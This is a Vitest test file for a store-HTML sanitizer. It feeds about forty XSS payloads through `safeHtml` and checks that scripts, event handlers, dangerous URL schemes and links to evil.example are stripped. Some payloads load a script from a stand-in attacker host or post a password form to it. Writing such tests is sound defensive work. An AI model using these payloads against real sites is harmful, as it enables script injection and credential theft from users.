import { describe, expect, test } from "vitest";
import { safeHtml } from "./product-html.server.ts";

const ATTACKS = [
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	'<img src=x onerror="alert(1)">',
	"<img src=`javascript:alert(1)`>",
	'<img/src="x"/onerror=alert(1)>',
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	'<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href="java\tscript:alert(1)">x</a>',
	'<a href="&#106;&#97;vascript:alert(1)">x</a>',
	'<a href=" javascript:alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<a href="x" onclick="alert(1)">x</a>',
	'<iframe src="https://evil.example"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="x.swf"></object><embed src="x.swf">',
	'<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
	"<style>body{background:url(javascript:alert(1))}</style>",
	'<p style="background:url(javascript:alert(1));position:fixed">x</p>',
	'<link rel="stylesheet" href="//evil.example/x.css">',
	'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	'<base href="https://evil.example/">',
	'<body onload="alert(1)">',
	'<video src=x onerror="alert(1)"><source onerror="alert(1)"></video>',
	"<details open ontoggle=alert(1)>x</details>",
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	"<template><script>alert(1)</script></template>",
	"<!--><script>alert(1)</script>-->",
	"<textarea><script>alert(1)</script></textarea>",
	"<xmp><img src=x onerror=alert(1)></xmp>",
	'<img src="https://evil.example/pixel.gif">',
	'<img src="//evil.example/pixel.gif">',
	'<img src="data:image/svg+xml,<svg onload=alert(1)>">',
	'<a href="//evil.example" target="_blank">x</a>',
	'<p id="content" class="fixed inset-0">x</p>',
];

describe("HTML from a store", () => {
	test.each(ATTACKS)("cannot attack: %s", (attack) => {
		const html = safeHtml(`<p>before</p>${attack}<p>after</p>`);
		const tags = [...html.matchAll(/<\s*\/?\s*([a-z0-9]+)([^>]*)>/gi)];
		for (const [, name = "", attributes = ""] of tags) {
			expect(name).toMatch(
				/^(p|br|hr|h[3-6]|ul|ol|li|blockquote|code|pre|strong|b|em|i|u|s|sub|sup|span|div|table|thead|tbody|tfoot|tr|th|td|caption|a|img)$/,
			);
			expect(attributes).not.toMatch(
				/\son\w+|style|class|\sid=|srcdoc|formaction|javascript:|data:|vbscript:/i,
			);
			expect(attributes).not.toMatch(/evil\.example/);
		}
		expect(html).toContain("before");
	});

	test("keeps what makes a guide readable", () => {
		const guide =
			'<h2>Place</h2><ol start="2"><li>Dig <strong>12 in</strong></li></ol><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>';
		expect(safeHtml(guide)).toBe(
			'<h3>Place</h3><ol start="2"><li>Dig <strong>12 in</strong></li></ol><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
		);
	});

	test("gives links a rel, whatever they had before", () => {
		expect(safeHtml('<a href="https://maker.example/manual" rel="opener" target="_blank">Manual</a>')).toBe(
			'<a href="https://maker.example/manual" rel="noopener noreferrer nofollow">Manual</a>',
		);
		expect(safeHtml('<a href="/contact">Ask</a>')).toContain('href="/contact"');
	});

	test("shows pictures of the store's own host, loaded late", () => {
		const html = safeHtml('<img src="https://cdn.shopify.com/a.jpg" alt="Pump" onerror="x()">');
		expect(html).toBe('<img src="https://cdn.shopify.com/a.jpg" alt="Pump" loading="lazy" />');
	});
});
